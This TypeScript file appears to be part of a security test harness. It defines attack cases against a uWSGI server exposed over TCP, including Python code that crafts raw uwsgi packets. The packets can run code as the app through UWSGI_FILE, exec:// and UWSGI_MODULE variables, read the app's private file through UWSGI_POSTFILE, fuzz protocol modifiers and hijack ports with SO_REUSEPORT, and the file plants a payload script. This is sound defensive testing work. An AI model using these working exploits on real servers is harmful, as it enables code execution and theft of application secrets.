import type { Attack } from "../attack.ts";

const group = "uwsgi over TCP";
/** A request by the uwsgi protocol, with variables that nginx never sends. */
const packet = (variables: string, modifier = 0) => `python3 - <<'P'
import socket, struct
def ask(variables, modifier):
    body = b""
    for name, value in dict({"REQUEST_METHOD": "GET", "PATH_INFO": "/", "SERVER_PROTOCOL": "HTTP/1.1", "HTTP_HOST": "a", "REQUEST_URI": "/", "SERVER_NAME": "a", "SERVER_PORT": "80", "QUERY_STRING": ""}, **variables).items():
        body += struct.pack("<H", len(name)) + name.encode() + struct.pack("<H", len(value)) + value.encode()
    s = socket.create_connection(("127.0.0.1", 8080), 5)
    s.settimeout(2)
    s.sendall(struct.pack("<BHB", modifier, len(body), 0) + body)
    said = b""
    try:
        while True:
            more = s.recv(4096)
            if not more: break
            said += more
    except OSError: pass
    return said
${variables === "each" ? "for n in range(1, 256):\n    try: ask({}, n)\n    except OSError as e: print(n, e)" : `print(ask(${variables}, ${modifier}))`}
P`;
const ran = "within 5 test -e /srv/shop/shared/instance/packet-ran";
const evil = "/opt/packet/packet.py";
/** A place of the attacker's that the app may read: its /tmp is its own. */
const before = `mkdir -p /opt/packet; printf 'open("/srv/shop/shared/instance/packet-ran", "w")\\ndef application(e, s):\\n    s("200 OK", [])\\n    return [b"owned"]\\napp = application\\n' >${evil}; chmod -R a+rX /opt/packet`;
const after = "rm -rf /opt/packet /srv/shop/shared/instance/packet-ran";
const took = `${ran} || grep -q owned "$SAID"`;
const by = (name: string, variables: string): Attack => ({
  ...{ group, name: `run code as the app: ${name}`, who: "local user", before, do: packet(variables), took, after },
});

/** Whoever reaches uWSGI's own socket: with TCP any account of the server. */
export const tcp: readonly Attack[] = [
  by("UWSGI_FILE", '{"UWSGI_FILE": "/opt/packet/packet.py", "SCRIPT_NAME": "/a"}'),
  by("UWSGI_FILE=exec://", '{"UWSGI_FILE": "exec://touch /srv/shop/shared/instance/packet-ran", "SCRIPT_NAME": "/e"}'),
  by("UWSGI_FILE with an id of an app", '{"UWSGI_FILE": "/opt/packet/packet.py", "UWSGI_APPID": "/evil"}'),
  by(
    "UWSGI_SCRIPT",
    '{"UWSGI_SCRIPT": "packet", "UWSGI_PYHOME": "/opt/packet", "UWSGI_CHDIR": "/opt/packet", "UWSGI_APPID": "/b"}',
  ),
  by(
    "UWSGI_MODULE",
    '{"UWSGI_MODULE": "packet", "UWSGI_CALLABLE": "app", "UWSGI_CHDIR": "/opt/packet", "UWSGI_APPID": "/c"}',
  ),
  by(
    "a variable twice, the second empty",
    '{"UWSGI_FILE": "/opt/packet/packet.py", "UWSGI_FILE ": "", "SCRIPT_NAME": "/d"}',
  ),
  {
    ...{ group, name: "read a file of the app's: UWSGI_POSTFILE", who: "local user" },
    before:
      "echo shop-secret-file >/srv/shop/shared/instance/db; chown shop:shop /srv/shop/shared/instance/db; chmod 600 /srv/shop/shared/instance/db",
    do: packet(
      '{"UWSGI_POSTFILE": "/srv/shop/shared/instance/db", "REQUEST_METHOD": "POST", "PATH_INFO": "/echo", "CONTENT_LENGTH": "16"}',
    ),
    took: 'grep -q shop-secret-file "$SAID"',
    after: "rm -f /srv/shop/shared/instance/db",
  },
  {
    ...{ group, name: "reach another part of uWSGI by each of its modifiers", who: "local user" },
    do: packet("each"),
    took: "! within 40 serves shop",
  },
  {
    ...{ group, name: "take the app's port before it does", who: "local user" },
    do: "python3 -c \"import socket; s = socket.socket(); s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1); s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEPORT, 1); s.bind(('127.0.0.1', 8080)); s.listen(); print('bound')\"; python3 -c \"import socket; s = socket.socket(); s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEPORT, 1); s.bind(('0.0.0.0', 8080)); s.listen(); print('bound')\"",
    took: 'grep -q bound "$SAID"',
  },
  {
    ...{ group, name: "take another app's port while a deploy restarts it", who: "app" },
    do: "python3 -c \"import socket; s = socket.socket(); s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEPORT, 1); s.bind(('127.0.0.1', 8090)); s.listen(); print('bound')\"",
    took: 'grep -q bound "$SAID"',
  },
];
